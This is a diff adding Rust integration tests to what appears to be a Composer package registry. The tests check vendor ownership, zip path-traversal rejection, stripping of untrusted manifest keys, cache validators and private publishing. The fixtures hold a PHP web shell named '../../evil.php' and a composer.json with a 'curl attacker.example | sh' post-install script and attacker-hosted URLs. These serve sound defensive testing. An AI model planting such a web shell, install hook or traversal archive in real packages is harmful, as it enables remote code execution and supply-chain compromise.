@@ -9,7 +9,7 @@ use sha1::Digest as _;
 use zip::write::SimpleFileOptions;
 
 use crate::helpers::{TestApp, error_code, header};
-use crate::market::{dist, manifest, noise, zip_of, zip_with_raw_name};
+use crate::market::{dist, manifest, noise, zip_by_hand, zip_of, zip_with_raw_name};
 
 #[tokio::test]
 async fn publishing_a_version_creates_the_add_on_with_checksums() {
@@ -74,10 +74,39 @@ async fn another_account_cannot_publish_to_an_add_on() {
     let bob = app.account("bob").await;
     let (ta, tb) = (app.access_token(&alice).await, app.access_token(&bob).await);
     app.publish_ok(&ta, "acme/lib", "library", "1.0.0").await;
+    // Under alice's vendor, bob meets the vendor's rule first, which tells nothing about
+    // whether the add-on exists (tests/api/registry.rs).
     let r = app
         .publish(&tb, "acme/lib", "1.1.0", dist("acme/lib", "library"))
         .await;
     assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    assert_eq!(error_code(r).await, "vendor_owned");
+    // Where the vendor is bob's (given to him by an administrator), alice's add-on is still
+    // hers.
+    let root = app
+        .account_with(
+            "root",
+            true,
+            harmony::admin::ClientSpec {
+                scopes: vec!["read".into(), "write".into(), "admin".into()],
+                ..Default::default()
+            },
+        )
+        .await;
+    let tr = app.access_token(&root).await;
+    let r = app
+        .patch_json(
+            "/admin/vendors/acme",
+            &tr,
+            json!({"owner": {"type": "user", "name": "bob"}}),
+        )
+        .await;
+    assert_eq!(r.status(), 200);
+    let r = app
+        .publish(&tb, "acme/lib", "1.1.0", dist("acme/lib", "library"))
+        .await;
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    assert_eq!(error_code(r).await, "forbidden");
     app.make_private(&ta, "acme/lib").await;
     let r = app
         .publish(&tb, "acme/lib", "1.1.0", dist("acme/lib", "library"))
@@ -733,4 +762,342 @@ async fn malformed_paths_are_4xx_envelopes_never_5xx() {
             assert!(body["error"]["code"].is_string(), "{method} {path}: {body}");
         }
     }
+}
+
+#[tokio::test]
+async fn dists_are_served_as_declared_never_sniffed() {
+    let app = TestApp::spawn().await;
+    let alice = app.account("alice").await;
+    let token = app.access_token(&alice).await;
+    app.publish_ok(&token, "acme/lib", "library", "1.0.0").await;
+    let r = app.get("/packages/acme/lib/versions/1.0.0/dist").await;
+    assert_eq!(r.status(), 200);
+    assert_eq!(header(&r, "content-type"), "application/zip");
+    assert_eq!(header(&r, "x-content-type-options"), "nosniff");
+}
+
+#[tokio::test]
+async fn an_entry_whose_local_header_names_another_file_is_refused() {
+    let app = TestApp::spawn().await;
+    let alice = app.account("alice").await;
+    let token = app.access_token(&alice).await;
+    let good = manifest("acme/lib", "library", json!({}));
+    let payload: &[u8] = b"<?php system($_GET['c']);";
+    // The central directory, which a checker reads, names an innocent file; the local
+    // header, which a streaming extractor reads, names a file two folders up.
+    let hostile = zip_by_hand(&[
+        ("composer.json", "composer.json", &good),
+        ("src/innocent.php", "../../evil.php", payload),
+    ]);
+    let r = app.publish(&token, "acme/lib", "1.0.0", hostile).await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let body: Value = r.json().await.unwrap();
+    assert_eq!(body["error"]["code"], "invalid_archive");
+    let message = body["error"]["message"].as_str().unwrap();
+    assert!(
+        message.contains("src/innocent.php")
+            && message.contains("../../evil.php")
+            && message.contains("local header"),
+        "{message}"
+    );
+    assert!(walk(&app.state.config.packages.data_dir.join("dists")).is_empty());
+    // The same zip with names that agree is a valid dist.
+    let honest = zip_by_hand(&[
+        ("composer.json", "composer.json", &good),
+        ("src/innocent.php", "src/innocent.php", payload),
+    ]);
+    let r = app.publish(&token, "acme/lib", "1.0.0", honest).await;
+    assert_eq!(r.status(), StatusCode::CREATED);
+}
+
+#[tokio::test]
+async fn composer_metadata_carries_only_the_keys_harmony_serves() {
+    let app = TestApp::spawn().await;
+    let alice = app.account("alice").await;
+    let token = app.access_token(&alice).await;
+    let uploaded = manifest(
+        "acme/lib",
+        "library",
+        json!({
+            "source": {"type": "git", "url": "https://attacker.example/acme/lib.git", "reference": "x"},
+            "notification-url": "https://attacker.example/notify",
+            "dist": {"type": "zip", "url": "https://attacker.example/lib.zip"},
+            "scripts": {"post-install-cmd": "curl attacker.example | sh"},
+            "repositories": [{"type": "vcs", "url": "https://attacker.example"}],
+            "config": {"secure-http": false},
+            "time": "2000-01-01T00:00:00+00:00",
+            "abandoned": "attacker/lib",
+            "require": {"php": ">=8.1"},
+            "suggest": {"acme/extra": "for more"},
+            "autoload": {"psr-4": {"Acme\\Lib\\": "src/"}},
+            "license": "MIT",
+            "keywords": ["acme"],
+            "authors": [{"name": "Alice"}],
+            "support": {"issues": "https://example.com/issues"},
+            "homepage": "https://example.com",
+            "extra": {"harmony": {"priority": 1}},
+            "bin": ["bin/acme"],
+        }),
+    );
+    let zip = zip_of(&[("composer.json", &uploaded), ("src/Lib.php", b"<?php")]);
+    let r = app.publish(&token, "acme/lib", "1.0.0", zip).await;
+    assert_eq!(r.status(), StatusCode::CREATED);
+    let meta = app.json_as("/p2/acme/lib.json", None, 200).await;
+    let entry = &meta["packages"]["acme/lib"][0];
+    let mut keys: Vec<&str> = entry
+        .as_object()
+        .unwrap()
+        .keys()
+        .map(String::as_str)
+        .collect();
+    keys.sort_unstable();
+    assert_eq!(
+        keys,
+        [
+            "authors",
+            "autoload",
+            "bin",
+            "description",
+            "dist",
+            "extra",
+            "homepage",
+            "keywords",
+            "license",
+            "name",
+            "require",
+            "suggest",
+            "support",
+            "time",
+            "type",
+            "version",
+            "version_normalized",
+        ]
+    );
+    let dist_url = entry["dist"]["url"].as_str().unwrap();
+    assert!(dist_url.starts_with(&app.base), "{dist_url}");
+    assert_ne!(entry["time"], "2000-01-01T00:00:00+00:00");
+
+    // A served key must have the shape Composer expects.
+    let bad = manifest("acme/lib", "library", json!({"autoload": "src/"}));
+    let r = app
+        .publish(
+            &token,
+            "acme/lib",
+            "1.0.1",
+            zip_of(&[("composer.json", &bad)]),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let body: Value = r.json().await.unwrap();
+    assert_eq!(
+        body["error"]["message"],
+        "composer.json autoload must be an object"
+    );
+}
+
+/// `GET path` with optional bearer token and extra headers.
+async fn get_as(
+    app: &TestApp,
+    path: &str,
+    token: Option<&str>,
+    headers: &[(&str, &str)],
+) -> reqwest::Response {
+    let mut request = app.http.get(app.url(path));
+    if let Some(t) = token {
+        request = request.bearer_auth(t);
+    }
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    request.send().await.unwrap()
+}
+
+#[tokio::test]
+async fn composer_validators_differ_between_views_and_a_304_needs_the_exact_document() {
+    let app = TestApp::spawn().await;
+    let alice = app.account("alice").await;
+    let ta = app.access_token(&alice).await;
+    app.publish_ok(&ta, "acme/open", "library", "1.0.0").await;
+    app.publish_ok(&ta, "acme/secret", "library", "1.0.0").await;
+    app.make_private(&ta, "acme/secret").await;
+
+    let anonymous = get_as(&app, "/packages.json", None, &[]).await;
+    let owner = get_as(&app, "/packages.json", Some(&ta), &[]).await;
+    for r in [&anonymous, &owner] {
+        assert_eq!(r.status(), 200);
+        assert_eq!(header(r, "vary"), "Authorization");
+    }
+    let (lm_a, etag_a) = (
+        header(&anonymous, "last-modified"),
+        header(&anonymous, "etag"),
+    );
+    let (lm_o, etag_o) = (header(&owner, "last-modified"), header(&owner, "etag"));
+    assert_ne!(lm_a, lm_o, "Last-Modified differs between the two views");
+    assert_ne!(etag_a, etag_o, "so does ETag");
+
+    // Composer's sequence: cached anonymously, then asked again with credentials. The
+    // owner gets the whole document, private add-on included, whichever validator it sends.
+    for (name, value) in [("if-modified-since", &lm_a), ("if-none-match", &etag_a)] {
+        let r = get_as(&app, "/packages.json", Some(&ta), &[(name, value)]).await;
+        assert_eq!(r.status(), 200, "{name}");
+        let repo: Value = r.json().await.unwrap();
+        assert_eq!(
+            repo["available-packages"],
+            json!(["acme/open", "acme/secret"]),
+            "{name}"
+        );
+    }
+    // And the other way round: the owner's copy is not the anonymous document.
+    let r = get_as(
+        &app,
+        "/packages.json",
+        None,
+        &[("if-modified-since", &lm_o)],
+    )
+    .await;
+    assert_eq!(r.status(), 200);
+    let repo: Value = r.json().await.unwrap();
+    assert_eq!(repo["available-packages"], json!(["acme/open"]));
+    // A date after the document's is no proof of holding it either.
+    let later = "Fri, 01 Jan 2100 00:00:00 GMT";
+    let r = get_as(
+        &app,
+        "/packages.json",
+        None,
+        &[("if-modified-since", later)],
+    )
+    .await;
+    assert_eq!(r.status(), 200);
+
+    // Each caller revalidates its own copy.
+    for (token, lm, etag) in [(None, &lm_a, &etag_a), (Some(ta.as_str()), &lm_o, &etag_o)] {
+        for (name, value) in [("if-modified-since", lm), ("if-none-match", etag)] {
+            let r = get_as(&app, "/packages.json", token, &[(name, value)]).await;
+            assert_eq!(r.status(), StatusCode::NOT_MODIFIED, "{token:?} {name}");
+            assert_eq!(&header(&r, "last-modified"), lm);
+            assert_eq!(&header(&r, "etag"), etag);
+            assert_eq!(header(&r, "vary"), "Authorization");
+        }
+    }
+
+    // A p2 file changes with every publish, even one in the same second as the last.
+    let r = get_as(&app, "/p2/acme/open.json", None, &[]).await;
+    let lm = header(&r, "last-modified");
+    assert_eq!(header(&r, "vary"), "Authorization");
+    app.publish_ok(&ta, "acme/open", "library", "1.1.0").await;
+    let r = get_as(
+        &app,
+        "/p2/acme/open.json",
+        None,
+        &[("if-modified-since", &lm)],
+    )
+    .await;
+    assert_eq!(r.status(), 200);
+    assert_ne!(header(&r, "last-modified"), lm);
+    let meta: Value = r.json().await.unwrap();
+    assert_eq!(meta["packages"]["acme/open"][0]["version"], "1.1.0");
+}
+
+#[tokio::test]
+async fn an_add_on_can_be_private_from_its_first_publish() {
+    let app = TestApp::spawn().await;
+    let alice = app.account("alice").await;
+    let bob = app.account("bob").await;
+    let (ta, tb) = (app.access_token(&alice).await, app.access_token(&bob).await);
+
+    // An anonymous caller watches every place the add-on could appear while it is
+    // published; it must never see it.
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let watcher = {
+        let (http, base, stop) = (app.http.clone(), app.base.clone(), stop.clone());
+        tokio::spawn(async move {
+            let mut sightings = Vec::new();
+            let mut rounds = 0;
+            loop {
+                let last = stop.load(std::sync::atomic::Ordering::SeqCst);
+                for path in [
+                    "/packages/acme/hidden",
+                    "/packages/acme/hidden/versions/1.0.0/dist",
+                    "/p2/acme/hidden.json",
+                ] {
+                    let status = http
+                        .get(format!("{base}{path}"))
+                        .send()
+                        .await
+                        .unwrap()
+                        .status();
+                    if status != 404 {
+                        sightings.push(format!("{path}: {status}"));
+                    }
+                }
+                let text = http
+                    .get(format!("{base}/packages.json"))
+                    .send()
+                    .await
+                    .unwrap()
+                    .text()
+                    .await
+                    .unwrap();
+                if text.contains("acme/hidden") {
+                    sightings.push("packages.json".to_owned());
+                }
+                rounds += 1;
+                if last {
+                    return (sightings, rounds);
+                }
+            }
+        })
+    };
+    let r = app
+        .http
+        .put(app.url("/packages/acme/hidden/versions/1.0.0?visibility=private"))
+        .bearer_auth(&ta)
+        .header("Content-Type", "application/zip")
+        .body(dist("acme/hidden", "library"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::CREATED);
+    stop.store(true, std::sync::atomic::Ordering::SeqCst);
+    let (sightings, rounds) = watcher.await.unwrap();
+    assert!(rounds >= 1);
+    assert!(sightings.is_empty(), "{sightings:?}");
+
+    for token in [None, Some(tb.as_str())] {
+        assert!(
+            app.json_as("/packages", token, 200)
+                .await
+                .as_array()
+                .unwrap()
+                .is_empty()
+        );
+        app.json_as("/packages/acme/hidden", token, 404).await;
+        app.json_as("/p2/acme/hidden.json", token, 404).await;
+        let repo = app.json_as("/packages.json", token, 200).await;
+        assert_eq!(repo["available-packages"], json!([]));
+    }
+    let p = app.json_as("/packages/acme/hidden", Some(&ta), 200).await;
+    assert_eq!(p["visibility"], "private");
+
+    // Later publishes leave it private; asking for the other visibility does not change it
+    // behind the owner's back, and an unknown one is refused.
+    app.publish_ok(&ta, "acme/hidden", "library", "1.1.0").await;
+    let put = |query: &'static str| {
+        app.http
+            .put(app.url(&format!("/packages/acme/hidden/versions/1.2.0{query}")))
+            .bearer_auth(&ta)
+            .header("Content-Type", "application/zip")
+            .body(dist("acme/hidden", "library"))
+            .send()
+    };
+    let r = put("?visibility=public").await.unwrap();
+    assert_eq!(r.status(), StatusCode::CONFLICT);
+    assert_eq!(error_code(r).await, "visibility_mismatch");
+    let r = put("?visibility=hidden").await.unwrap();
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let r = put("?visibility=private&visibility=public").await.unwrap();
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let r = put("?visibility=private").await.unwrap();
+    assert_eq!(r.status(), StatusCode::CREATED);
+    app.json_as("/p2/acme/hidden.json", None, 404).await;
 }
